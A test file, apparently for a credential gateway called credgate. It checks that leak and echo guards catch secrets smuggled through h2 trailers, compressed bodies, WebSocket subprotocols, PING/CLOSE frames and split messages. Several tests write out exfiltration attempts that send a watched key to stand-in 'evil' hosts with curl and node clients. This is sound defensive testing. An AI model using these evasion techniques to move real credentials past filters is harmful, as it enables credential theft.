// The guards' scanning surfaces beyond plain headers and bodies (docs/guards.md#echo-guard,
// docs/guards.md#credential-leak-guard), through the real process with real clients, as an attacker with one agent
// token: h2 request trailers and encoded request bodies (curl with gzip, deflate, br and zstd files; an unknown
// coding refused with 415) carrying a watched value to another host; an origin's h2 response trailers; the
// WebSocket 101 answered by an unmodified `ws` server with the placeholder's value as subprotocol; WebSocket
// control frames (PING payloads, CLOSE reasons) and values split across messages, both ways (Node `ws` as the
// agent, a raw WebSocket server writing frames by hand); a server that switches on permessage-deflate that was
// not offered.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { spawn, type Subprocess } from "bun";
import { createHash } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import * as http2 from "node:http2";
import { join } from "node:path";
import * as tls from "node:tls";
import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from "node:zlib";
import { gatewayCa, resolveEntries, ROOT, run } from "../support/gateway.ts";
import { startCredgate, type RunningCredgate } from "../support/process.ts";
import { tempDir } from "../support/tmp.ts";
import { makePki, startUpstream, type TestPki, type TestUpstream } from "../support/upstream.ts";

const HOME = "home.surfaces.test";
const EVIL = "evil.surfaces.test";
const H2_EVIL = "evil-h2.surfaces.test";
const H2_ECHO = "echo-h2.surfaces.test";
const WS_PROTO = "proto.surfaces.test";
const WS_ECHO = "echo-ws.surfaces.test";
const WS_EVIL = "evil-ws.surfaces.test";
/** Its secret is shorter than `credgate-redacted`: a redacted payload grows. */
const WS_SHORT = "short-ws.surfaces.test";
const LEAK = `sk-leak-${crypto.randomUUID()}`;
const H2_VALUE = `h2-value-${crypto.randomUUID()}`;
const WS_VALUE = `ws-value-${crypto.randomUUID()}`;
const SHORT_VALUE = `sv-${crypto.randomUUID().slice(0, 8)}`;
const PH = `CG_PH_${crypto.randomUUID().slice(0, 8)}`;
const PH_VALUE = `ph-value-${crypto.randomUUID()}`;
const REDACTED = "credgate-redacted";

let cg: RunningCredgate;
let pki: TestPki;
let up: TestUpstream;
let ca: { pem: string; file: string };
let proxy: string;
let dir: string;
let h2: { port: number; trailers: Record<string, string>[]; close(): void };
let wsOrigin: { port: number; proc: Subprocess<"ignore", "pipe", "pipe">; lines: string[] };
let rawWs: { port: number; conns: RawWsConn[]; close(): void };

const sha256 = (b: Uint8Array) => createHash("sha256").update(b).digest("hex");

beforeAll(async () => {
  dir = tempDir();
  pki = makePki([HOME, EVIL, H2_EVIL, H2_ECHO, WS_PROTO, WS_ECHO, WS_EVIL, WS_SHORT]);
  up = startUpstream(pki);
  h2 = await startTrailerOrigin(pki);
  wsOrigin = await startWsOrigin(pki);
  rawWs = await startRawWsServer(pki);
  cg = await startCredgate({
    env: {
      CREDGATE_UPSTREAM_CA_FILE: pki.caFile,
      CREDGATE_RESOLVE: [
        resolveEntries([HOME, EVIL], up.port),
        resolveEntries([H2_EVIL, H2_ECHO], h2.port),
        resolveEntries([WS_PROTO], wsOrigin.port),
        resolveEntries([WS_ECHO, WS_EVIL, WS_SHORT], rawWs.port),
      ].join(","),
    },
  });
  ca = await gatewayCa(cg);
  proxy = `http://x:${cg.keys.defaultAgentToken}@127.0.0.1:${cg.gatewayPort}`;
  const secrets = [
    { name: "leak key", type: "generic", value: LEAK, hostPattern: HOME, injectionConfig: { headerName: "x-api-key" } },
    { name: "h2 key", type: "generic", value: H2_VALUE, hostPattern: H2_ECHO, injectionConfig: { headerName: "authorization", valueFormat: "Bearer {value}" } },
    { name: "ws key", type: "generic", value: WS_VALUE, hostPattern: WS_ECHO, injectionConfig: { headerName: "authorization", valueFormat: "Bearer {value}" } },
    { name: "short key", type: "generic", value: SHORT_VALUE, hostPattern: WS_SHORT, injectionConfig: { headerName: "authorization", valueFormat: "Bearer {value}" } },
    { name: "ph secret", type: "generic", value: PH_VALUE, hostPattern: WS_PROTO, injectionConfig: { placeholder: PH } },
  ];
  for (const body of secrets) expect((await cg.api("POST", "/v1/secrets", { body })).status).toBe(201);
});

afterAll(async () => {
  await cg?.stop();
  await up?.stop();
  h2?.close();
  wsOrigin?.proc.kill();
  rawWs?.close();
});

// ── origins ──────────────────────────────────────────────────────────────────────────────────────────────

/** An h2 origin (node:http2): records every request's trailers; answers once the request has ended, with the
 * request's Authorization echoed in a response trailer. */
async function startTrailerOrigin(p: TestPki): Promise<{ port: number; trailers: Record<string, string>[]; close(): void }> {
  const trailers: Record<string, string>[] = [];
  const server = http2.createSecureServer({ cert: readFileSync(p.certFile), key: readFileSync(p.keyFile), allowHTTP1: false });
  server.on("stream", (stream: http2.ServerHttp2Stream, headers: http2.IncomingHttpHeaders) => {
    stream.on("error", () => {});
    stream.on("trailers", (t: http2.IncomingHttpHeaders) => trailers.push(Object.fromEntries(Object.entries(t).map(([k, v]) => [k, String(v)]))));
    stream.resume();
    stream.on("end", () => {
      if (stream.destroyed) return;
      stream.respond({ ":status": 200, "content-type": "text/plain" }, { waitForTrailers: true });
      stream.on("wantTrailers", () => stream.sendTrailers({ "x-echo": String(headers.authorization ?? "none") }));
      stream.end("body");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()));
  return { port: (server.address() as { port: number }).port, trailers, close: () => server.close() };
}

/** The `ws` package's own server, run by Node (test/support/wsOrigin.cjs). */
async function startWsOrigin(p: TestPki): Promise<{ port: number; proc: Subprocess<"ignore", "pipe", "pipe">; lines: string[] }> {
  const proc = spawn(["node", join(ROOT, "test/support/wsOrigin.cjs"), p.certFile, p.keyFile], { cwd: ROOT, stdin: "ignore", stdout: "pipe", stderr: "pipe" });
  const lines: string[] = [];
  let resolvePort!: (port: number) => void;
  const port = new Promise<number>((resolve) => (resolvePort = resolve));
  void (async () => {
    let buf = "";
    for await (const chunk of proc.stdout) {
      buf += Buffer.from(chunk).toString();
      let nl: number;
      while ((nl = buf.indexOf("\n")) >= 0) {
        const line = buf.slice(0, nl);
        buf = buf.slice(nl + 1);
        const parsed = JSON.parse(line);
        if (typeof parsed.port === "number") resolvePort(parsed.port);
        else lines.push(line);
      }
    }
  })();
  return { port: await port, proc, lines };
}

interface RawWsConn {
  path: string;
  head: string;
  /** The client's frames, unmasked, as they arrived. */
  frames: { opcode: number; fin: boolean; payload: Buffer }[];
  /** Every byte the client sent after the upgrade request (to look for a value in whatever form). */
  bytes: Buffer;
}

/** One unmasked frame from a server. */
function serverFrame(opcode: number, payload: Buffer | string, fin = true): Buffer {
  const p = typeof payload === "string" ? Buffer.from(payload) : payload;
  const head = p.length < 126 ? Buffer.from([(fin ? 0x80 : 0) | opcode, p.length]) : Buffer.from([(fin ? 0x80 : 0) | opcode, 126, p.length >> 8, p.length & 0xff]);
  return Buffer.concat([head, p]);
}

function closePayload(code: number, reason: string): Buffer {
  const b = Buffer.alloc(2);
  b.writeUInt16BE(code);
  return Buffer.concat([b, Buffer.from(reason)]);
}

/**
 * A WebSocket server written by hand (no library): it answers the upgrade with 101 (on `/deflate` also with
 * `Sec-WebSocket-Extensions: permessage-deflate`, whatever was offered), records the client's frames, answers
 * each client text message `echo:<text>` and a CLOSE with the same CLOSE, and on the paths below sends frames carrying the value injected into
 * the upgrade's Authorization (`v`): `/ping` a PING `p v`; `/close` a CLOSE 4000 `r v`; `/long-ping` a PING of 125
 * bytes ending in `v`; `/split` two text messages with `v` cut between them. Then a text message `done`. On
 * `/rsv`: a text message, then a frame with RSV1 set (as if compressed) that was never negotiated.
 */
async function startRawWsServer(p: TestPki): Promise<{ port: number; conns: RawWsConn[]; close(): void }> {
  const conns: RawWsConn[] = [];
  const server = tls.createServer({ cert: readFileSync(p.certFile), key: readFileSync(p.keyFile), ALPNProtocols: ["http/1.1"] }, (sock) => {
    sock.on("error", () => {});
    let buf = Buffer.alloc(0);
    let conn: RawWsConn | null = null;
    sock.on("data", (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      if (conn === null) {
        const end = buf.indexOf("\r\n\r\n");
        if (end === -1) return;
        const head = buf.subarray(0, end).toString("latin1");
        buf = buf.subarray(end + 4);
        const path = head.split(" ")[1]!;
        conn = { path, head, frames: [], bytes: Buffer.alloc(0) };
        conns.push(conn);
        const key = /sec-websocket-key: *(\S+)/i.exec(head)![1]!;
        const accept = createHash("sha1").update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest("base64");
        const extra = path === "/deflate" ? "Sec-WebSocket-Extensions: permessage-deflate\r\n" : "";
        sock.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n${extra}\r\n`);
        const v = /authorization: *Bearer (\S+)/i.exec(head)?.[1] ?? "none";
        if (path === "/deflate") sock.write(serverFrame(1, "relayed anyway"));
        if (path === "/rsv") sock.write(Buffer.concat([serverFrame(1, "readable"), Buffer.from([0xc1, 0x05]), Buffer.from(`z ${v}`).subarray(0, 5)]));
        if (path === "/ping") sock.write(Buffer.concat([serverFrame(9, `p ${v}`), serverFrame(1, "done")]));
        if (path === "/close") sock.write(serverFrame(8, closePayload(4000, `r ${v}`)));
        if (path === "/long-ping") sock.write(Buffer.concat([serverFrame(9, "x".repeat(125 - v.length) + v), serverFrame(1, "done")]));
        if (path === "/split") sock.write(Buffer.concat([serverFrame(1, `one ${v.slice(0, 10)}`), serverFrame(1, `${v.slice(10)} two`), serverFrame(1, "done")]));
      }
      conn.bytes = Buffer.concat([conn.bytes, buf]);
      for (;;) {
        if (buf.length < 2) break;
        let len = buf[1]! & 0x7f;
        let at = 2;
        if (len === 126) {
          if (buf.length < 4) break;
          len = buf.readUInt16BE(2);
          at = 4;
        }
        if (buf.length < at + 4 + len) break;
        const mask = buf.subarray(at, at + 4);
        const payload = Buffer.from(buf.subarray(at + 4, at + 4 + len).map((b, i) => b ^ mask[i % 4]!));
        const frame = { opcode: buf[0]! & 0x0f, fin: (buf[0]! & 0x80) !== 0, payload };
        buf = buf.subarray(at + 4 + len);
        conn.frames.push(frame);
        if (frame.opcode === 1) sock.write(serverFrame(1, `echo:${payload.toString()}`));
        if (frame.opcode === 8) sock.end(serverFrame(8, payload));
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()));
  return { port: (server.address() as { port: number }).port, conns, close: () => server.close() };
}

// ── agents ───────────────────────────────────────────────────────────────────────────────────────────────

function curl(args: string[]) {
  return run(["curl", "-sS", "--proxy", proxy, "--cacert", ca.file, ...args]);
}

interface WsEvents {
  protocol?: string;
  upgradeHeaders?: Record<string, string>;
  unexpected?: { status: number; body: string };
  messages: string[];
  pings: string[];
  close?: { code: number; reason: string };
  error?: string;
  timedOut?: boolean;
}

/**
 * The Node `ws` client through the gateway (https-proxy-agent), offering `protocols` and permessage-deflate;
 * `body` runs once the socket is open (`ws`, `next()` for the next message, `LEAK` in scope). Every event, as JSON.
 */
async function wsAgent(url: string, protocols: string[], body: string): Promise<WsEvents> {
  const script = `
    const WebSocket = require("ws");
    const { HttpsProxyAgent } = require("https-proxy-agent");
    const LEAK = process.env.LEAK;
    const ev = { messages: [], pings: [] };
    const waiters = [];
    let seen = 0;
    const next = () => new Promise((r) => (seen < ev.messages.length ? r(ev.messages[seen++]) : waiters.push(r)));
    const print = () => { console.log(JSON.stringify(ev)); process.exit(0); };
    setTimeout(() => { ev.timedOut = true; print(); }, 15000);
    const ws = new WebSocket(process.env.URL, JSON.parse(process.env.PROTOCOLS), { agent: new HttpsProxyAgent(process.env.PROXY), perMessageDeflate: true });
    ws.on("upgrade", (res) => (ev.upgradeHeaders = res.headers));
    ws.on("unexpected-response", (req, res) => {
      let text = "";
      res.on("data", (c) => (text += c));
      res.on("end", () => { ev.unexpected = { status: res.statusCode, body: text }; print(); });
    });
    ws.on("message", (d) => { ev.messages.push(d.toString()); const w = waiters.shift(); if (w) w(ev.messages[seen++]); });
    ws.on("ping", (d) => ev.pings.push(d.toString("latin1")));
    ws.on("error", (e) => (ev.error = e.message));
    ws.on("close", (code, reason) => { ev.close = { code, reason: reason.toString() }; print(); });
    ws.on("open", async () => { ev.protocol = ws.protocol; try { ${body} } catch (e) { ev.error = String(e); print(); } });`;
  const r = await run(["node", "-e", script], { env: { PROXY: proxy, NODE_EXTRA_CA_CERTS: ca.file, URL: url, PROTOCOLS: JSON.stringify(protocols), LEAK } });
  expect(r.stderr).toBe("");
  return JSON.parse(r.stdout) as WsEvents;
}

/** Node's http2 client through the gateway: one request with a body and trailers; the response, its trailers. */
async function h2WithTrailers(authority: string, trailers: Record<string, string>): Promise<{ status?: number; headers?: Record<string, string>; trailers?: Record<string, string>; body: string; error?: string }> {
  const script = `
    const http2 = require("node:http2"), net = require("node:net"), tls = require("node:tls"), fs = require("node:fs");
    const cfg = JSON.parse(process.env.CFG);
    const s = net.connect(cfg.port, "127.0.0.1", () => s.write("CONNECT " + cfg.authority + " HTTP/1.1\\r\\nHost: " + cfg.authority + "\\r\\nProxy-Authorization: Basic " + Buffer.from("x:" + cfg.token).toString("base64") + "\\r\\n\\r\\n"));
    s.once("data", () => {
      const secure = tls.connect({ socket: s, servername: cfg.authority.split(":")[0], ca: fs.readFileSync(cfg.caFile), ALPNProtocols: ["h2"] }, () => {
        const session = http2.connect("https://" + cfg.authority, { createConnection: () => secure });
        const out = { body: "" };
        const req = session.request({ ":method": "POST", ":path": "/t", "content-type": "text/plain" }, { waitForTrailers: true });
        req.on("wantTrailers", () => req.sendTrailers(cfg.trailers));
        req.on("response", (h) => { out.status = h[":status"]; out.headers = h; });
        req.on("trailers", (t) => (out.trailers = t));
        req.on("data", (c) => (out.body += c));
        req.on("error", (e) => (out.error = e.message));
        req.on("close", () => { console.log(JSON.stringify(out)); session.close(); process.exit(0); });
        req.end("a body");
      });
    });`;
  const cfg = { port: cg.gatewayPort, authority, token: cg.keys.defaultAgentToken, caFile: ca.file, trailers };
  const r = await run(["node", "-e", script], { env: { CFG: JSON.stringify(cfg) } });
  expect(r.stderr).toBe("");
  return JSON.parse(r.stdout);
}

const leakBlocked = (host: string) => ({
  error: "credential_leak_blocked",
  message: `This request carries the value of the credgate secret "leak key", which is not for ${host}. credgate does not send a credential to another host.`,
  host,
  secret_name: "leak key",
});

// ── the leak guard on h2 trailers and encoded bodies ─────────────────────────────────────────────────────

describe("credential leak guard: h2 request trailers", () => {
  test("a watched value in a trailer to another host: 403, the origin never receives the trailer", async () => {
    const before = h2.trailers.length;
    const out = await h2WithTrailers(`${H2_EVIL}:${h2.port}`, { "x-note": `key ${LEAK}` });
    expect(out.status).toBe(403);
    expect(JSON.parse(out.body)).toEqual(leakBlocked(H2_EVIL));
    expect(h2.trailers.slice(before).some((t) => JSON.stringify(t).includes(LEAK))).toBe(false);
  });

  test("a clean trailer goes through", async () => {
    const before = h2.trailers.length;
    const out = await h2WithTrailers(`${H2_EVIL}:${h2.port}`, { "x-note": "nothing here" });
    expect(out.status).toBe(200);
    expect(h2.trailers.slice(before)).toEqual([{ "x-note": "nothing here" }]);
  });
});

describe("credential leak guard: encoded request bodies", () => {
  // Enough text that every encoder compresses it: the value is not in the encoded bytes as it is.
  const words = "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod".split(" ");
  const json = Buffer.from(JSON.stringify({ note: Array.from({ length: 400 }, (_, i) => words[(i * 7) % words.length]).join(" "), key: LEAK }));
  const encodings: [string, (b: Buffer) => Buffer][] = [
    ["gzip", gzipSync],
    ["deflate", deflateSync],
    ["br", brotliCompressSync],
    ["zstd", zstdCompressSync],
  ];

  function writeBody(name: string, bytes: Uint8Array): string {
    const file = join(dir, name);
    writeFileSync(file, bytes);
    return file;
  }

  for (const [coding, encode] of encodings) {
    test(`a ${coding} JSON body holding the value, to another host: 403, the upstream gets no byte of it`, async () => {
      const path = `/enc/${coding}/${crypto.randomUUID()}`;
      const file = writeBody(`${coding}.bin`, encode(json));
      const r = await curl(["-H", "content-type: application/json", "-H", `content-encoding: ${coding}`, "--data-binary", `@${file}`, `https://${EVIL}:${up.port}${path}`]);
      expect(JSON.parse(r.stdout)).toEqual(leakBlocked(EVIL));
      expect(up.seen.filter((s) => s.url === path && s.bodyBytes > 0)).toEqual([]);
    });
  }

  test("the value raw after the end of a gzip member (which a decoder may skip as trailing bytes): the wire is read too", async () => {
    const path = `/enc/trailing/${crypto.randomUUID()}`;
    const file = writeBody("trailing.bin", Buffer.concat([gzipSync(Buffer.from("harmless")), Buffer.from(LEAK)]));
    const r = await curl(["-H", "content-encoding: gzip", "--data-binary", `@${file}`, `https://${EVIL}:${up.port}${path}`]);
    expect(JSON.parse(r.stdout)).toEqual(leakBlocked(EVIL));
    expect(up.seen.filter((s) => s.url === path && s.bodyBytes > 0)).toEqual([]);
  });

  test("a gzip body to the value's own host, and a clean one anywhere, go out as the agent encoded them", async () => {
    const gz = gzipSync(json);
    const file = writeBody("home.gz", gz);
    for (const host of [HOME, EVIL]) {
      const path = `/enc/ok/${crypto.randomUUID()}`;
      const body = host === HOME ? file : writeBody("clean.gz", gzipSync(Buffer.from('{"note":"nothing secret here"}')));
      const r = await curl(["-H", "content-encoding: gzip", "--data-binary", `@${body}`, `https://${host}:${up.port}${path}`]);
      const seen = JSON.parse(r.stdout);
      expect(seen.headers["content-encoding"]).toBe("gzip");
      expect(seen.bodySha256).toBe(sha256(readFileSync(body)));
    }
  });

  test("a large gzip body with the value at its very end: refused while it streams, the upstream never gets it all", async () => {
    const path = `/enc/large/${crypto.randomUUID()}`;
    // Little-compressible text (random base64), 6 MiB before compression, the value last.
    const text = Buffer.concat([Buffer.from(crypto.getRandomValues(new Uint8Array(4.5 * 1024 * 1024))).toString("base64").slice(0, 6 * 1024 * 1024), LEAK].map((s) => Buffer.from(s)));
    const gz = gzipSync(text);
    const file = writeBody("large.gz", gz);
    let received = 0;
    let complete = false;
    const drain = async (req: Request) => {
      try {
        for await (const chunk of req.body!) received += chunk.byteLength;
        complete = true;
      } catch {}
      return new Response("read");
    };
    up.handle((req) => (new URL(req.url).pathname === path ? drain(req) : undefined));
    const r = await curl(["-H", "content-encoding: gzip", "--data-binary", `@${file}`, `https://${EVIL}:${up.port}${path}`]);
    up.handle(() => undefined);
    expect(r.stdout).toContain("credential_leak_blocked");
    expect(complete).toBe(false);
    expect(received).toBeLessThan(gz.length);
  }, 60_000);

  test("identity and aws-chunked are read as sent; any other coding: 415 before anything is sent", async () => {
    const plain = `/enc/identity/${crypto.randomUUID()}`;
    const r1 = await curl(["-H", "content-encoding: identity", "--data-binary", `k=${LEAK}`, `https://${EVIL}:${up.port}${plain}`]);
    expect(JSON.parse(r1.stdout)).toEqual(leakBlocked(EVIL));
    const chunked = `/enc/aws/${crypto.randomUUID()}`;
    const r2 = await curl(["-H", "content-encoding: aws-chunked", "--data-binary", `k=${LEAK}`, `https://${EVIL}:${up.port}${chunked}`]);
    expect(JSON.parse(r2.stdout)).toEqual(leakBlocked(EVIL));
    for (const coding of ["compress", "gzip, br"]) {
      const odd = `/enc/odd/${crypto.randomUUID()}`;
      const r3 = await curl(["-i", "-H", `content-encoding: ${coding}`, "--data-binary", "anything", `https://${EVIL}:${up.port}${odd}`]);
      expect(r3.stdout).toMatch(/\r\nHTTP\/[\d.]+ 415 /);
      expect(JSON.parse(r3.stdout.slice(r3.stdout.lastIndexOf("\r\n\r\n") + 4))).toEqual({
        error: "unsupported_content_encoding",
        message: `credgate cannot read a request body encoded as ${coding}; send it uncompressed or as gzip`,
      });
      expect(up.seen.some((s) => s.url === odd)).toBe(false);
    }
    // A body that is not what its coding says cannot be read either.
    const broken = `/enc/broken/${crypto.randomUUID()}`;
    const r4 = await curl(["-i", "-H", "content-encoding: gzip", "--data-binary", "not gzip at all", `https://${EVIL}:${up.port}${broken}`]);
    expect(r4.stdout).toMatch(/\r\nHTTP\/[\d.]+ 415 /);
    expect(up.seen.filter((s) => s.url === broken && s.bodyBytes > 0)).toEqual([]);
  });
});

// ── the echo guard on h2 response trailers ───────────────────────────────────────────────────────────────

describe("echo guard: h2 response trailers", () => {
  test("an origin echoing the injected credential in a trailer: the h2 agent reads it redacted", async () => {
    const out = await h2WithTrailers(`${H2_ECHO}:${h2.port}`, { "x-note": "hi" });
    expect(out.status).toBe(200);
    expect(out.trailers!["x-echo"]).toBe(`Bearer ${REDACTED}`);
    expect(JSON.stringify(out)).not.toContain(H2_VALUE);
  });
});

// ── WebSocket ────────────────────────────────────────────────────────────────────────────────────────────

describe("WebSocket 101 (an unmodified ws server)", () => {
  test("a placeholder offered as subprotocol comes back redacted in the 101, and the upgrade fails for the agent", async () => {
    const out = await wsAgent(`wss://${WS_PROTO}:${wsOrigin.port}/proto`, [PH], "ws.close();");
    // The server really got the value (header surface) and chose it.
    expect(wsOrigin.lines.map((l) => JSON.parse(l))).toContainEqual({ path: "/proto", protocol: PH_VALUE });
    expect(JSON.stringify(out)).not.toContain(PH_VALUE);
    expect(out.upgradeHeaders!["sec-websocket-protocol"]).toBe(REDACTED);
    expect(out.protocol).toBeUndefined();
    expect(out.error).toBe("Server sent an invalid subprotocol");
  });

  test("a server that switches on permessage-deflate credgate took out of the offer: 502, nothing relayed", async () => {
    const out = await wsAgent(`wss://${WS_ECHO}:${rawWs.port}/deflate`, [], "ws.close();");
    expect(rawWs.conns.at(-1)!.head).not.toContain("permessage-deflate");
    expect(out.unexpected!.status).toBe(502);
    expect(JSON.parse(out.unexpected!.body)).toEqual({
      error: "upstream_unreachable",
      message: `credgate could not connect to ${WS_ECHO}:${rawWs.port}: the server enabled a WebSocket extension that was not offered`,
    });
    expect(out.messages).toEqual([]);
  });
});

describe("WebSocket frames from the server (echo guard)", () => {
  test("a PING payload carrying the injected value reaches the agent redacted", async () => {
    const out = await wsAgent(`wss://${WS_ECHO}:${rawWs.port}/ping`, [], "await next(); ws.close();");
    expect(out.messages).toEqual(["done"]);
    expect(out.pings).toEqual([`p ${REDACTED}`]);
  });

  test("a CLOSE reason carrying the value: code kept, reason redacted", async () => {
    const out = await wsAgent(`wss://${WS_ECHO}:${rawWs.port}/close`, [], "");
    expect(out.close).toEqual({ code: 4000, reason: `r ${REDACTED}` });
  });

  test("a 125-byte PING that grows when redacted is cut to 125 bytes (no protocol error)", async () => {
    const out = await wsAgent(`wss://${WS_SHORT}:${rawWs.port}/long-ping`, [], "await next(); ws.close();");
    expect(out.messages).toEqual(["done"]);
    expect(out.pings).toEqual(["x".repeat(125 - SHORT_VALUE.length) + REDACTED.slice(0, SHORT_VALUE.length)]);
    expect(out.close?.code).toBe(1005);
  });

  test("a value split across two messages: the second is redacted from where the value continues", async () => {
    const out = await wsAgent(`wss://${WS_ECHO}:${rawWs.port}/split`, [], "await next(); await next(); await next(); ws.close();");
    expect(out.messages).toEqual([`one ${WS_VALUE.slice(0, 10)}`, `${REDACTED} two`, "done"]);
  });
});

describe("WebSocket frames credgate cannot read", () => {
  test("a server frame with an RSV bit (compressed without an extension): not relayed, the agent gets CLOSE 1002", async () => {
    const out = await wsAgent(`wss://${WS_ECHO}:${rawWs.port}/rsv`, [], "");
    expect(out.messages).toEqual(["readable"]);
    expect(out.close).toEqual({ code: 1002, reason: "credgate cannot read the frame" });
  });
});

describe("WebSocket frames from the agent (leak guard)", () => {
  const evil = () => `wss://${WS_EVIL}:${rawWs.port}/record`;
  const sentLeak = () => rawWs.conns.at(-1)!.frames.some((f) => f.payload.toString("latin1").includes(LEAK.slice(12)));

  test("a PING payload carrying a watched value: not written, CLOSE 1008", async () => {
    const out = await wsAgent(evil(), [], 'ws.send("fine"); await next(); ws.ping(Buffer.from("p " + LEAK));');
    expect(out.messages).toEqual(["echo:fine"]);
    expect(out.close).toEqual({ code: 1008, reason: "credential_leak_blocked" });
    expect(rawWs.conns.at(-1)!.bytes.toString("latin1")).not.toContain("p ");
    expect(sentLeak()).toBe(false);
  });

  test("a CLOSE reason carrying a watched value: not written, CLOSE 1008", async () => {
    const out = await wsAgent(evil(), [], 'ws.send("fine"); await next(); ws.close(1000, "bye " + LEAK);');
    expect(out.close).toEqual({ code: 1008, reason: "credential_leak_blocked" });
    expect(rawWs.conns.at(-1)!.frames.filter((f) => f.opcode === 8)).toEqual([]);
  });

  test("a value split across two messages: the second is not written", async () => {
    const out = await wsAgent(evil(), [], 'ws.send("a " + LEAK.slice(0, 20)); await next(); ws.send(LEAK.slice(20) + " b");');
    expect(out.messages).toEqual([`echo:a ${LEAK.slice(0, 20)}`]);
    expect(out.close).toEqual({ code: 1008, reason: "credential_leak_blocked" });
    expect(rawWs.conns.at(-1)!.frames.map((f) => f.payload.toString())).toEqual([`a ${LEAK.slice(0, 20)}`]);
  });

  test("a value split across two PINGs: the second is not written", async () => {
    const out = await wsAgent(evil(), [], 'ws.ping(Buffer.from(LEAK.slice(0, 20))); ws.send("sync"); await next(); ws.ping(Buffer.from(LEAK.slice(20)));');
    expect(out.close).toEqual({ code: 1008, reason: "credential_leak_blocked" });
    expect(rawWs.conns.at(-1)!.frames.map((f) => f.payload.toString())).toEqual([LEAK.slice(0, 20), "sync"]);
  });
});
